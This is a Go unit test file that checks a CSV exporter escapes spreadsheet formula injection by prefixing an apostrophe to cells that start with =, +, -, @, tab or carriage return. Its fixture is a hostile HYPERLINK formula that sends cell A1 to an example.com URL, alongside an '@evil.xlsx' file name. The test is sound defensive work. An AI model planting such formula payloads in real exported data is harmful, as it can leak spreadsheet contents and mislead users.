package view

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/attain-tool/attain/eval"
	"github.com/attain-tool/attain/rules"
	"github.com/shopspring/decimal"
)

// A unit named as a formula, with a falling trade figure.
const csvHostile = `=HYPERLINK("http://example.com/?"&A1,"点击查看")`

func csvHostileActuals(entity string) eval.Actuals {
	return eval.Actuals{Entity: entity, Year: 2019, Values: map[string]*eval.Actual{
		"trade_growth": {ID: "trade_growth", Growth: decimal.NewNullDecimal(decimal.RequireFromString("-1.5")),
			Sources: eval.Sources{{Field: eval.FieldGrowth, Pos: rules.Pos{File: "@evil.xlsx", Sheet: "填报表", Cell: "H8"}}}},
	}}
}

// TestCSVInjection reads the CSV back: text cells that a spreadsheet would
// take for a formula begin with an apostrophe, figures are left alone.
func TestCSVInjection(t *testing.T) {
	rs := rules.Default()
	single := eval.Evaluate(rs, csvHostileActuals(csvHostile))
	city := eval.EvaluateUnits([]eval.Unit{
		{Name: csvHostile, Ruleset: rs, Actuals: csvHostileActuals(csvHostile)},
		{Name: "+红旗区", Ruleset: rs, Actuals: csvHostileActuals("+红旗区")},
	}, eval.Options{})
	tests := []struct {
		name   string
		write  func(*bytes.Buffer) error
		unit   string // the column of the unit's name, "" when none
		column map[string]string
	}{
		{"one unit", func(b *bytes.Buffer) error { return WriteCSV(b, single) }, "", map[string]string{
			"实际值": "-1.5", "数据来源": "'@evil.xlsx: 填报表!H8"}},
		{"a city", func(b *bytes.Buffer) error { return WriteCityCSV(b, city) }, "单位", map[string]string{
			"单位": "'" + csvHostile, "实际值": "-1.5", "数据来源": "'@evil.xlsx: 填报表!H8"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := tc.write(&buf); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := map[string]int{}
			for i, h := range recs[0] {
				col[h] = i
			}
			var row []string
			for _, r := range recs[1:] {
				if r[col["编码"]] == "trade_growth" {
					row = r
					break
				}
			}
			if row == nil {
				t.Fatal("no trade_growth row")
			}
			for name, want := range tc.column {
				if got := row[col[name]]; got != want {
					t.Errorf("%s = %q, want %q", name, got, want)
				}
			}
			for _, r := range recs[1:] {
				for i, c := range r {
					if c != "" && (c[0] == '=' || c[0] == '+' || c[0] == '@') {
						t.Errorf("%s of %s is a formula: %q", recs[0][i], r[col["编码"]], c)
					}
				}
			}
		})
	}
}

func TestCSVText(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain", "地区生产总值", "地区生产总值"},
		{"empty", "", ""},
		{"equals", "=1+1", "'=1+1"},
		{"plus", "+86", "'+86"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"an equals sign inside", "a=b", "a=b"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := csvText(tc.in); got != tc.want {
				t.Errorf("csvText(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}
